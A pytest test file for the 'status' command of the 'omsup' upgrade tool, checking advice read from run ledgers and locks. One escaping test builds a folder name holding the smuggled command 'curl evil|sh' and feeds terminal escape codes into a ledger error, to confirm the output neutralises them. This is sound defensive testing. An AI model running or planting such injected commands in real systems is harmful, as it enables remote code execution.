"""omsup status: where the runs on an environment stand and what to do next, read from the ledgers
and the lock alone (no service behind it), by the rules the runbooks themselves apply."""

import json

import pytest

from omsup import lock as omsup_lock
from omsup.cli import main
from omsup.record import BackupFile, Facts, NodeFacts, Record, RolledBack, RunStatus, UpgradeRef

from .envfiles import write

PW = "meta'pw\"$;#\\x"
UPGRADE_STEPS = ("preflight", "disable_ha", "stop_old", "prune_heartbeats", "backup", "load_image")


@pytest.fixture
def env(tmp_path, monkeypatch):
    monkeypatch.setenv("OMSUP_TEST_PW", PW)
    monkeypatch.setenv("OMSUP_TEST_CONSOLE_PW", "console-pw-7Yq!")
    (tmp_path / "backups").mkdir()
    path = write(tmp_path, backup={"host": "local://", "dir": str(tmp_path / "backups")}, state_dir=str(tmp_path / "s"))
    return str(path.resolve())


def status(env, capsys, *more):
    rc = main(["status", "--env", env, *more])
    out, err = capsys.readouterr()
    assert not err, err
    return rc, out


def upgrade(env, tmp_path, steps=UPGRADE_STEPS) -> Record:
    rec, _ = Record.open(tmp_path / "s", "upgrade_429", "prod-eu", Facts(target="4.2.9-CE", environment_file=env))
    for key in steps:
        rec.mark(key, "done")
    with rec.change() as f:
        f.t1 = "2026-12-06T01:00:00.000Z"
        f.backups = [
            BackupFile(
                role="rm", db="rm_428", host="local://", path=str(tmp_path / "backups" / "rm_428.sql"), size=1234,
                sha256="ab" * 32, tables={}, charset="utf8mb4", collation="utf8mb4_general_ci", taken=f.t1,
            )
        ]  # fmt: skip
        f.nodes["n1"] = NodeFacts(
            container_id="c1", name="oms_428", image="oms:4.2.8", image_id="i1", binds=[], env=[], user_env={},
            version="4.2.8-CE", cm_nodes=[], kept_as="oms_428-pre-4.2.8-CE-x",
        )  # fmt: skip
    return rec


def test_nothing_recorded_says_so_and_where_it_looked(env, tmp_path, capsys):
    rc, out = status(env, capsys)
    assert rc == 0
    assert "environment prod-eu" in out and "lock: free" in out
    assert f"no run is recorded: {tmp_path / 's'} does not exist" in out  # a wrong state_dir shows
    Record.open(tmp_path / "s", "probe", "prod-eu", Facts(target="0.0.0-CE", environment_file=env))[0].finish()
    rc, out = status(env, capsys)
    assert rc == 0 and "nothing is under way: no unfinished run, no upgrade to roll back" in out


def test_an_upgrade_stopped_before_its_new_containers_is_resumed_or_called_off(env, tmp_path, capsys):
    rec = upgrade(env, tmp_path)
    rec.mark("start_new", "failed", error=f"node n2: container oms_428 is not running (password {PW})")
    # start_new began: no longer to be called off, and the rollback goes back
    rc, out = status(env, capsys)
    assert rc == 0
    assert f"run {rec.run_id} of upgrade_429 is unfinished (stopped at start_new: node n2" in out
    assert f"fix the cause, then resume: pytest runbooks/upgrade_429 --env {env}" in out
    assert f"or go back to the version before it, with its backups: pytest runbooks/rollback_429 --env {env}" in out
    assert "omsup abandon" not in out
    assert "T1 2026-12-06T01:00:00.000Z" in out and "backup rm_428:" in out and "SHA-256 " + "ab" * 32 in out
    assert "old containers kept: n1 as oms_428-pre-4.2.8-CE-x" in out
    assert "  note: OMS is down since 2026-12-06T01:00:00.000Z (" in out  # T1, nothing serves again yet
    assert "it stopped the old containers at T1 and has not seen the consoles serve again since" in out
    assert PW not in out and "******" in out  # a ledger keeps values as they are; what is shown is redacted

    rec2 = upgrade(env, tmp_path / "other")  # another state folder: the first run is the one shown
    assert rec2.run_id != rec.run_id


def test_an_upgrade_stopped_after_its_backups_may_be_called_off_but_not_rolled_back(env, tmp_path, capsys):
    rec = upgrade(env, tmp_path)
    rec.mark("load_image", "running")  # killed in the middle of it
    _, out = status(env, capsys)
    assert "global timeouts" not in out
    with rec.change() as f:  # killed during its dumps, on OceanBase
        f.ob_globals_before, f.ob_globals_restored = {"ob_query_timeout": 10000000}, False
    _, out = status(env, capsys)
    assert "it raised the OceanBase tenant's global timeouts for its dumps and stopped before setting them " in out
    assert "which set them back to ob_query_timeout=10000000" in out
    assert f"run {rec.run_id} of upgrade_429 is unfinished (stopped at load_image: it began and did not end)" in out
    assert f"or call it off (it says what to put back by hand): omsup abandon upgrade_429 --env {env}" in out
    assert "rollback_429" not in out  # its rollback would refuse: no new container, no migrated metadata
    assert "it began and did not end: the run was interrupted, killed, or runs now" in out


def test_a_completed_upgrade_names_its_rollback_and_a_rolled_back_one_does_not(env, tmp_path, capsys):
    rec = upgrade(env, tmp_path, (*UPGRADE_STEPS, "start_new", "init_metadata", "verify", "enable_ha"))
    rec.finish(RunStatus.COMPLETE)
    again, _ = Record.open(tmp_path / "s", "upgrade_429", "prod-eu", Facts(target="4.2.9-CE", environment_file=env))
    again.mark("preflight", "failed", error="the deployment already runs 4.2.9-CE")
    again.finish(RunStatus.NOTHING_TO_DO)  # refused, changed nothing: it hides nothing
    _, out = status(env, capsys)
    assert f"nothing is under way. Run {rec.run_id} of upgrade_429 upgraded to 4.2.9-CE" in out
    assert "restores the metadata as it was at T1 2026-12-06T01:00:00.000Z" in out
    assert f"pytest runbooks/rollback_429 --env {env}" in out
    assert f"run {again.run_id}: nothing to do" in out

    rec.data.rolled_back = RolledBack(by="20261206T020000000000Z", at="2026-12-06T02:10:00.000Z")
    rec.save()
    rc, out = status(env, capsys)
    assert rc == 0 and "rolled back by run 20261206T020000000000Z" in out
    assert "nothing is under way: no unfinished run, no upgrade to roll back" in out


def test_a_half_done_rollback_is_to_be_finished_and_its_upgrade_not_resumed(env, tmp_path, capsys):
    up = upgrade(env, tmp_path, (*UPGRADE_STEPS, "start_new"))
    up.mark("init_metadata", "failed", error="docker_init.sh exited 1")
    rb, _ = Record.open(tmp_path / "s", "rollback_429", "prod-eu", Facts(target="4.2.9-CE", environment_file=env))
    with rb.change() as f:
        f.upgrade = UpgradeRef(
            run_id=up.run_id, ledger=str(up.path), t1=None, versions=None, backups=[], nodes={}, ha_before=None
        )
    for key in ("rollback_preflight", "disable_ha", "stop_new"):
        rb.mark(key, "done")
    rb.mark("restore", "failed", error="MetaDB gone")
    with rb.change() as f:
        f.t3 = "2026-12-06T02:00:00.000Z"
    rc, out = status(env, capsys, "--json")
    s = json.loads(out)
    assert rc == 0 and s["environment"] == "prod-eu"
    assert s["next"][0] == (
        f"rollback run {rb.run_id} (rollback_429) is half done (stopped at restore: MetaDB gone): finish it, it "
        f"resumes: pytest runbooks/rollback_429 --env {env}"
    )
    assert s["next"][1].startswith("  note: OMS is down since 2026-12-06T02:00:00.000Z (")
    assert s["next"][1].endswith("it stopped the new containers at T3 and has not seen the consoles serve again since")
    assert len(s["next"]) == 2
    [shown] = s["runbooks"]["rollback_429"]
    assert shown["undoes"] == up.run_id and shown["stopped_at"]["step"] == "restore"
    assert shown["stopped_at"]["title"] == "Drop, recreate and restore rm, cm and every cm_hb"
    assert s["runbooks"]["upgrade_429"][0]["steps"]["init_metadata"] == "failed"


def test_the_lock_is_said_first(env, tmp_path, capsys):
    upgrade(env, tmp_path)
    lock = tmp_path / "backups" / "prod-eu" / ".omsup.lock"
    lock.parent.mkdir()
    holder = omsup_lock.me("upgrade_429", "alice")  # this very process: alive
    lock.write_text(json.dumps(holder))
    _, out = status(env, capsys)
    nxt = out.split("next:\n")[1].splitlines()
    assert nxt[0].startswith("  a run holds the lock: upgrade_429 by alice") and "still runs on this machine" in nxt[0]
    assert "lock: held by upgrade_429 by alice" in out
    lock.write_text(json.dumps({**holder, "pid": 2**22 + 1}))  # no such pid
    _, out = status(env, capsys)
    assert "the lock is left by a run that ended (upgrade_429 by alice" in out and f"omsup unlock --env {env}" in out


def test_an_unreadable_ledger_is_said_and_no_advice_is_given(env, tmp_path, capsys):
    upgrade(env, tmp_path)
    bad = tmp_path / "s" / "rollback_429" / "20261206T000000000000Z" / "ledger.json"
    bad.parent.mkdir(parents=True)
    bad.write_text("{not json")
    assert main(["status", "--env", env]) == 1
    out = capsys.readouterr().out
    assert "unreadable: rollback_429: run ledger" in out and "no advice is given" in out
    assert "resume" not in out.split("next:")[1]


def test_a_finished_runbook_shows_its_newest_runs_only(env, tmp_path, capsys):
    ids = []
    for _ in range(5):
        rec, _ = Record.open(tmp_path / "s", "probe", "prod-eu", Facts(target="0.0.0-CE", environment_file=env))
        rec.finish(RunStatus.COMPLETE)
        ids.append(rec.run_id)
    _, out = status(env, capsys, "--json")
    assert [r["run_id"] for r in json.loads(out)["runbooks"]["probe"]] == ids[:-4:-1]


def test_a_run_its_failure_said_not_to_resume_is_not_advised_to_resume(env, tmp_path, capsys):
    rec = upgrade(env, tmp_path)
    hint = f"do not resume this run: call it off (omsup abandon upgrade_429 --env {env} --reason ...)"
    rec.mark("stop_old", "failed", error="node n1: the old container was started again", hint=hint, resumable=False)
    _, out = status(env, capsys)
    nxt = out.split("next:\n")[1].splitlines()
    assert (
        nxt[0].strip() == f"run {rec.run_id} of upgrade_429 is not to be resumed (stopped at stop_old: node n1: "
        f"the old container was started again): {hint}"
    )
    assert len(nxt) == 2 and nxt[1].startswith("    note: OMS is down since 2026-12-06T01:00:00.000Z")
    assert f"it said what to do: {hint}" in out
    rec.mark("stop_old", "done")  # (a later omsup might clear it): the failure goes to history with its advice
    entry = Record.load(rec.path).data.steps["stop_old"]
    assert entry.resumable and entry.hint is None and entry.earlier_failures[0].error.startswith("node n1")


def test_a_backup_host_that_cannot_be_reached_is_said_and_the_ledgers_still_shown(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("OMSUP_TEST_PW", PW)
    monkeypatch.setenv("OMSUP_TEST_CONSOLE_PW", "console-pw-7Yq!")
    gone = {"host": "ssh://nobody@127.0.0.99:9", "dir": str(tmp_path / "backups")}  # nothing listens there
    env = str(write(tmp_path, backup=gone, state_dir=str(tmp_path / "s")).resolve())
    rec = upgrade(env, tmp_path)
    rc, out = status(env, capsys)
    assert rc == 0 and "lock: not read: " in out and "is unreachable" in out
    nxt = out.split("next:\n")[1].splitlines()
    assert nxt[0].startswith("  the lock could not be read (") and "a run may be going on; check" in nxt[0]
    assert nxt[1].startswith(f"  run {rec.run_id} of upgrade_429 is unfinished")


def test_outside_text_is_printed_escaped_and_advice_is_quoted_for_a_shell(env, tmp_path, capsys):
    """A ledger's text (an error a console or a tool printed) can hold terminal escapes, and a folder under
    state_dir any name: neither drives the terminal, and advice never turns a name into shell syntax."""
    rec = upgrade(env, tmp_path)
    rec.mark("start_new", "failed", error="console said \x1b[2J\x1b[31mall fine\x07", category="OMS not ready")
    evil = tmp_path / "s" / "upgrade_429; curl evil|sh"
    evil.mkdir()
    led = json.loads(rec.path.read_text())
    led["runbook"], led["run_id"] = "upgrade_429; curl evil|sh", "20261206T000000000000Z"
    led["steps"] = {"preflight": led["steps"]["preflight"]}
    (evil / "20261206T000000000000Z").mkdir()
    (evil / "20261206T000000000000Z" / "ledger.json").write_text(json.dumps(led))
    _, out = status(env, capsys)
    assert "\x1b" not in out and "\x07" not in out and "\\x1b[2J" in out
    advice = out.split("next:\n")[1]
    assert "pytest 'runbooks/upgrade_429; curl evil|sh' --env" in advice, advice
    assert "runbooks/upgrade_429; curl" not in advice.replace("'runbooks/upgrade_429; curl", "")


def test_timeouts_a_killed_rehearsal_left_raised_are_said_with_how_to_set_them_back(env, tmp_path, capsys):
    folder = tmp_path / "s" / "rehearsals" / "20261207T010203000000Z"
    folder.mkdir(parents=True)
    (folder / "ob_globals_before.json").write_text(
        json.dumps({"metadb": "10.0.0.1:2881", "before": {"ob_query_timeout": 10000000, "ob_trx_timeout": 100000000}})
    )
    rc, out = status(env, capsys)
    assert rc == 0 and "a rehearsal ended between raising the MetaDB's timeouts" in out, out
    assert "SET GLOBAL ob_query_timeout = 10000000, ob_trx_timeout = 100000000" in out
    (folder / "ob_globals_before.json").unlink()
    assert "raising the MetaDB's timeouts" not in status(env, capsys)[1]
